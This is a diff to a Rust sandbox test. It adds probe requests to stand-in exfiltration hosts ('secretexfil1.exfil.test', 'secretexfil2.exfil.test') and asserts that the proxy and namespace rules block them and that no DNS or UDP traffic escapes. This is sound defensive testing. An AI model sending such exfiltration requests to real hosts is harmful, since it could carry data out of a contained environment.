@@ -62,6 +62,9 @@ fn lab(dir: &TempDir) -> NetLab {
             host_addrs: &["11.0.0.50/32"],
             host_tcp: &["0.0.0.0:9090"],
             host_udp: &["0.0.0.0:53", "0.0.0.0:5353"],
+            // The host's resolver is the upstream's UDP sink: every query
+            // squid sends shows up in the upstream's log.
+            resolver: Some("11.0.0.2"),
             ..LabSpec::default()
         },
     )
@@ -94,6 +97,8 @@ p hostport --noproxy '*' "http://$h:9090/hostport"
 p noproxyenv --noproxy '*' http://allowed.test:8080/noproxyenv
 p hostself http://hostself.test:9090/hostself
 p hostip http://11.0.0.50:9090/hostip
+p exfil http://secretexfil1.exfil.test:8080/exfil
+p exfil2 -p http://secretexfil2.exfil.test:443/exfil2
 p ftp ftp://allowed.test:8080/ftp
 p whois whois://allowed.test:8080/whois
 p gopher gopher://allowed.test:8080/gopher
@@ -146,9 +151,12 @@ fn declared_network_and_nothing_else() {
     assert_eq!(got("connect"), "200/200", "{stdout}");
     assert_eq!(got("direct"), "000/200", "{stdout}");
     // Refused by the proxy (403), or by the namespace's ruleset (no answer).
-    for id in ["port", "name", "rebind", "ipproxy", "hostself", "hostip"] {
+    for id in [
+        "port", "name", "rebind", "ipproxy", "hostself", "hostip", "exfil",
+    ] {
         assert_eq!(got(id), "000/403", "{id}: {stdout}");
     }
+    assert_eq!(got("exfil2"), "403/000", "{stdout}");
     // Other schemes are refused by the proxy (whatever curl makes of the answer).
     for id in ["ftp", "whois", "gopher"] {
         assert!(!got(id).ends_with("/200"), "{id}: {stdout}");
@@ -164,7 +172,12 @@ fn declared_network_and_nothing_else() {
     assert_eq!(got("ipv6").trim(), "lo", "{stdout}");
     // What the upstream got: the three allowed requests (and squid's
     // robots-free GET carries the probe's own path), nothing else, no UDP.
-    let mut hits = lab.lines();
+    // squid looked up no name nobody declared (no DNS channel out), and no
+    // datagram of the sandbox arrived anywhere.
+    let all = lab.lines();
+    assert!(!all.iter().any(|l| l.contains("secretexfil")), "{all:#?}");
+    assert!(!all.iter().any(|l| l.contains("udp-escape")), "{all:#?}");
+    let mut hits: Vec<String> = all.into_iter().filter(|l| l.starts_with("HIT ")).collect();
     hits.sort();
     assert_eq!(
         hits,
@@ -210,6 +223,14 @@ fn declared_network_and_nothing_else() {
             (
                 "11.0.0.50:9090".into(),
                 Some("net:connect:11.0.0.50:9090".into())
+            ),
+            (
+                "secretexfil1.exfil.test:8080".into(),
+                Some("net:connect:secretexfil1.exfil.test:8080".into())
+            ),
+            (
+                "secretexfil2.exfil.test:443".into(),
+                Some("net:connect:secretexfil2.exfil.test:443".into())
             ),
         ]
     );
